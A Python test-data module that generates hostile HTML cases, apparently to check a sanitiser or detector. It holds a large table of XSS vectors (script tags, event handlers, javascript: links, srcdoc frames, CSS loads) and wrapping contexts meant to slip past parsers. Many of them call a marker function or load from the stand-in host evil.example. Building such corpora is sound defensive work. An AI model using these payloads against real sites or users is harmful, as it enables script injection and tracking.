"""Hostile HTML, of the classes that public lists of it know (OWASP's cheat sheet, mutation XSS, what sanitisers and webmail had to mend),
made from two small tables: what does harm, and where it is hidden.

HIT calls home by script, FAR is an address elsewhere; both carry the number of the case. What begins with "-" is harmless in today's
Chromium (another browser's trick, or one that needs a second parse) and is not counted when the detector is proved.
"""

from dataclasses import dataclass

FAR_HOST = "evil.example"

VECTORS = (
    # scripts that run by themselves
    "<script>HIT</script>", "<ScRiPt >HIT</sCrIpT\n>", "<script/x>HIT</script>", "<svg><script>HIT</script></svg>",
    "<svg><script>&#95;&#95;hit(NUMBER)</script></svg>", "<script src=FAR></script>", "<script>/*<!--*/HIT//--></script>",
    "<script src='data:text/javascript,HIT'></script>", "<script type=module>HIT</script>", "<script\x0c>HIT</script>",
    # events without a hand, in odd spellings
    "<img src=x onerror=HIT>", "<IMG SRC=x OnErRoR=HIT>", "<img/src/onerror=HIT>", "<img src=x\nonerror\n=\nHIT>",
    "-<img src=x onerror='HIT'//", "<img src=x onerror=&#95;&#95;hit(NUMBER)>", "<img src=x:x onerror=HIT>", "<image src=x onerror=HIT>",
    "<img srcset=x onerror=HIT>", "<svg onload=HIT>", "<svg/onload=HIT>", "<svg><svg onload=HIT>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>", "<svg><set onbegin=HIT attributeName=x to=y>",
    "<svg><animatetransform onbegin=HIT attributeName=transform>", "<svg><image href=x onerror=HIT>",
    "<details open ontoggle=HIT>x</details>", "<video src=x onerror=HIT></video>", "<video><source onerror=HIT src=x></video>",
    "<audio src=x onerror=HIT></audio>", "-<object data=x: onerror=HIT></object>",
    "<link rel=stylesheet href='data:text/css,' onload=HIT>", "<style onload=HIT></style>", "<iframe onload=HIT></iframe>",
    "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=HIT>x</p>", "<input type=image src=x onerror=HIT>",
    "<p style='transition:color 1ms' onmouseover=HIT>x</p>", "<b onfocus=HIT tabindex=1>x</b>", "<input onfocus=HIT autofocus>",
    "<select onfocus=HIT></select>", "<a onclick=HIT>x</a>", "<div onpointerenter=HIT>x</div>", "-<marquee onstart=HIT>x</marquee>",
    "<body onpageshow=HIT>",
    # frames and what loads pages
    "<iframe srcdoc='<script>HIT</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=HIT&gt;'></iframe>",
    "<iframe src='javascript:HIT'></iframe>", "<iframe src='java\nscript:HIT'></iframe>",
    "<iframe src='data:text/html,<script>HIT</script>'></iframe>", "<iframe src=FAR></iframe>", "<object data=FAR></object>",
    "<embed src=FAR>", "<object data='data:text/html,<script>HIT</script>'></object>", "-<object><param name=movie value=FAR></object>",
    "-<applet code=FAR></applet>", "-<frameset><frame src=FAR></frameset>",
    # links and forms that a hand sets off
    "<a href='javascript:HIT'>x</a>", "<a href='JaVaScRiPt:HIT'>x</a>", "<a href=' \x01javascript:HIT'>x</a>",
    "<a href='java&Tab;script:HIT'>x</a>", "<a href='java&NewLine;script:HIT'>x</a>", "<a href='&#106;avascript&colon;HIT'>x</a>",
    "<a href='&#x0000006A;avascript:HIT'>x</a>", "<a href='javascript://%0aHIT'>x</a>",
    "<svg><a xlink:href='javascript:HIT'><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:HIT dur=9s /><text>x</text></a></svg>",
    "-<math><a href='javascript:HIT'>x</a></math>", "<form action='javascript:HIT'><button>x</button></form>",
    "<form><button formaction='javascript:HIT'>x</button></form>", "<form action=FAR><input type=submit></form>",
    "<form id=fNUMBER action=FAR></form><button form=fNUMBER>x</button>", "<a href='#' ping=FAR>x</a>",
    "<map><area href='javascript:HIT'></map>", "-<a href='vbscript:HIT'>x</a>", "<a href='data:text/html,<script>HIT</script>'>x</a>",
    # what loads by itself
    "<img src=FAR>", "-<img src='FAR", "<img srcset='FAR 1x'>", "<picture><source srcset=FAR><img></picture>",
    "<input type=image src=FAR>", "<video src=FAR></video>", "<video poster=FAR></video>", "<audio src=FAR preload=auto></audio>",
    "<video><track default src=FAR></video>", "<table background=FAR><tr><td>x</table>", "<table><tr><td background=FAR>x</table>",
    "<link rel=stylesheet href=FAR>", "<link rel=prefetch href=FAR>", "<link rel=preload as=image href=FAR>", "-<link rel=icon href=FAR>",
    "-<link rel=dns-prefetch href=FAR>", "-<link rel=preconnect href=FAR>", "<link rel=modulepreload href=FAR>",
    "<meta http-equiv=refresh content='0;url=FAR'>", "<meta http-equiv=refresh content='0;url=javascript:HIT'><img src=FAR>",
    "<base href=FAR><img src=x>", "<svg><image href=FAR></image></svg>", "<svg><image xlink:href=FAR></image></svg>",
    "<svg width=9 height=9><filter id=a><feImage href=FAR /></filter><rect width=9 height=9 filter=url(#a) /></svg>",
    "<svg><style>@import 'FAR';</style></svg>", "<svg><use href='FAR#x'></use></svg>", "-<html manifest=FAR>", "-<bgsound src=FAR>",
    # style sheets and styles
    "<style>@import 'FAR';</style>", "<style>@import url(FAR);</style>", "<style>body{background:url(FAR)}</style>",
    "<style>@font-face{font-family:f;src:url(FAR)}*{font-family:f}</style>f", "<style>*{background:u\\72l(FAR)}</style>",
    "<div style='background:url(FAR)'>x</div>", "<div style='background-image:url(&quot;FAR&quot;)'>x</div>",
    "<div style='background:u\\72l(FAR)'>x</div>", "<div style='background:/**/url(FAR)'>x</div>",
    "<div style='BACKGROUND:URL(FAR)'>x</div>", "<li style='list-style-image:url(FAR)'>x</li>",
    "<div style='--x:url(FAR);background:var(--x)'>x</div>", "<div style='background:image-set(&quot;FAR&quot; 1x)'>x</div>",
    "<div style='border:9px solid;border-image:url(FAR) 9'>x</div>", "<div style='width:9px;height:9px;mask-image:url(FAR)'>x</div>",
    "<div style='content:url(FAR)'>x</div>", "<div style='shape-outside:url(FAR);float:left'>x</div>",
    "<div style='cursor:url(FAR),auto'>x</div>", "-<div style='width:expression(HIT)'>x</div>", "-<div style='behavior:url(FAR)'>x</div>",
    "-<div style='-moz-binding:url(FAR)'>x</div>", "-<img style='xss:expr/**/ession(HIT)'>",
    "<div style='position:fixed;inset:0;z-index:9'><a href='javascript:HIT'>x</a></div>",
    # of this desk's own making: the names that it gives to pictures
    "-<img data-remote-src=FAR>", "-<img src='cid:x\" onerror=\"HIT'>", "-<img src='cid:\"><script>HIT</script>'>",
    "-<img data-cid='x' src='cid:y'>", "-<img src='https://evil.example/NUMBER\" onerror=\"HIT'>",
)

HIDDEN = (
    "{}", "<div>{}</div>", "<table><tr><td>{}</td></tr></table>", "<!DOCTYPE html><html><body>{}</body></html>", "\ufeff{}",
    "<?xml version='1.0'?>{}", "<!-->{}-->", "<!--!>-->{}", "<![CDATA[>{}]]>", "<noscript><p title=\"</noscript>{}\">",
    "<svg></p><style><a id=\"</style>{}\">", "<title></title>{}", "<textarea></textarea>{}", "<style><!--</style>{}-->", "<xmp></xmp>{}",
    "<select><option>x</select>{}", "<form><form>{}</form>", "<b><i></b>{}</i>", "<<b>{}", "<svg><desc>{}</desc></svg>",
    "<svg><foreignObject>{}</foreignObject></svg>", "<math><mtext>{}</mtext></math>", "<blockquote type=cite>{}</blockquote>",
    "<center><font size=7>{}</font></center>", "<ul><li>{}", "<p title='{{'>{}</p>", "<x-y z='>'>{}</x-y>", "<a name=x>y</a>{}",
    "<h1>مرحبًا {}</h1>", "<p>a\u202e{}</p>", "<scr<script>1</script>ipt>{}", "<pre>\x00{}</pre>",
)
QUIET = (
    "<template>{}</template>", "<math><mtext><table><mglyph><style><!--</style>{}", "<svg><style>{}</style></svg>",
    "<textarea>{}</textarea>", "<form><math><mtext></form><form><mglyph><style></math>{}", "<noscript><style></noscript>{}</style>",
    "<title>{}</title>", "<!--{}-->",
)
"""Where it lies still until somebody parses the text a second time."""
PLACES = 3


@dataclass(frozen=True)
class Case:
    """`fires`: rendered as it is, it does harm in Chromium, if need be when it is touched."""

    number: int
    html: str
    fires: bool


def cases() -> list[Case]:
    """Each vector in PLACES places where it does harm, each third in one where it sleeps, too; the places take turns."""
    made: list[Case] = []
    for turn, vector in enumerate(VECTORS):
        places = [(HIDDEN[(turn * PLACES + step) % len(HIDDEN)], True) for step in range(PLACES)]
        places += [(QUIET[turn // 3 % len(QUIET)], False)] if turn % 3 == 0 else []
        for place, harmful in places:
            number = len(made) + 1
            harm = vector.removeprefix("-").replace("HIT", f"__hit({number})").replace("FAR", f"https://{FAR_HOST}/{number}/")
            html = place.replace("{}", harm.replace("NUMBER", str(number))).replace("{{", "{")
            made.append(Case(number, html, harmful and not vector.startswith("-")))
    return made
